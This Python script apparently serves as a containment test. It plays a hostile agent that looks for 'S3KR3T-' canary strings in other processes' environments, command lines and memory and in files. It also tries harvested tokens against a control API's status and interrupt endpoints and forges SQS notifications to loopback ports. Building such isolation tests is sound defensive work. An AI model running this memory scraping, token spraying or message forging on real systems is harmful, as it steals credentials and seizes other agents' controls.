"""A booby-trapped agent: takes what it can reach on the machine, and writes what it got into a file.

    python -I thief.py LOOT FOLDER…

It looks for words that begin with `S3KR3T-` in every process (environment, command line, memory) and in every file of the folders, and
tries the doors that it finds on loopback. It knows nothing of Hermes but what is in its source.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import re
import sys
from pathlib import Path

SECRET = re.compile(rb"S3KR3T-([a-z]+)-[0-9a-f]{16}")
#: Of each region of memory, more than a small Python process has.
REGION_BYTES = 64 * 1024 * 1024
FORGED = {"Type": "Notification", "Message": json.dumps({"notificationType": "Received", "receipt": {}, "mail": {}})}


def names(data: bytes) -> set[str]:
    return {found.decode() for found in SECRET.findall(data)}


def processes() -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for part in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                found.setdefault(part, set()).update(names(Path(f"/proc/{pid}/{part}").read_bytes()))
        with contextlib.suppress(OSError):
            found.setdefault("memory", set()).update(memory(pid))
    return found


def memory(pid: str) -> set[str]:
    found: set[str] = set()
    regions = Path(f"/proc/{pid}/maps").read_text().splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        for region in regions:
            span, rights = region.split()[:2]
            if not rights.startswith("rw"):
                continue
            begin, end = (int(part, 16) for part in span.split("-"))
            with contextlib.suppress(OSError, OverflowError, ValueError):
                file.seek(begin)
                found |= names(file.read(min(end - begin, REGION_BYTES)))
    return found


def files(folders: list[str]) -> tuple[set[str], list[dict[str, str]]]:
    found: set[str] = set()
    controls: list[dict[str, str]] = []
    for folder in folders:
        for place, _, inside in os.walk(folder):
            for name in inside:
                with contextlib.suppress(OSError, ValueError):
                    data = (Path(place) / name).read_bytes()
                    found |= names(data)
                    if name == "control.json":
                        controls.append(json.loads(data))
    return found, controls


def ask(address: str, method: str, path: str, headers: dict[str, str], body: str = "") -> int:
    try:
        connection = http.client.HTTPConnection(address, timeout=5)
        connection.request(method, path, body=body or None, headers=headers)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0


def listening() -> list[int]:
    """The ports on loopback of whatever runs as this user: where the agents have Hermes' user, those of Hermes."""
    rows = [row.split() for row in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return sorted(
        {
            int(row[1].rpartition(":")[2], 16)
            for row in rows
            if row[3] == "0A" and row[1].startswith("0100007F") and int(row[7]) == os.getuid()
        }
    )


def controlled(control: dict[str, str]) -> list[int]:
    address = control["url"].removeprefix("http://")
    said = [ask(address, "GET", "/api/status", {})]
    for token in {*control.values(), *os.environ.values()}:
        with contextlib.suppress(ValueError, UnicodeError):
            said.append(ask(address, "GET", "/api/status", {"Authorization": f"Bearer {token}"}))
            said.append(ask(address, "POST", "/api/interrupt/x", {"Authorization": f"Bearer {token}"}))
    return said


def main() -> None:
    sys.stdin.read()
    seen = processes()
    read, controls = files(sys.argv[2:])
    sent = {"X-Amz-Target": "AmazonSQS.SendMessage", "Content-Type": "application/x-amz-json-1.0"}
    sent["Authorization"] = (
        "AWS4-HMAC-SHA256 Credential=test/20260101/eu-central-1/sqs/aws4_request, SignedHeaders=host, Signature=x"
    )
    doors = {}
    for port in listening():
        body = json.dumps(
            {"QueueUrl": f"http://127.0.0.1:{port}/000000000000/m-inbound", "MessageBody": json.dumps(FORGED)}
        )
        doors[port] = ask(f"127.0.0.1:{port}", "POST", "/", sent, body)
    loot = {
        "uid": os.getuid(),
        "own": sorted(names(json.dumps(dict(os.environ)).encode())),
        "names": sorted(os.environ),
        **{part: sorted(found) for part, found in seen.items()},
        "files": sorted(read),
        "controls": controls,
        "controlled": [controlled(control) for control in controls],
        "doors": doors,
    }
    part = Path(f"{sys.argv[1]}.part")
    part.write_text(json.dumps(loot))
    part.replace(sys.argv[1])
    Path("done.txt").write_text("done\n")


if __name__ == "__main__":
    main()
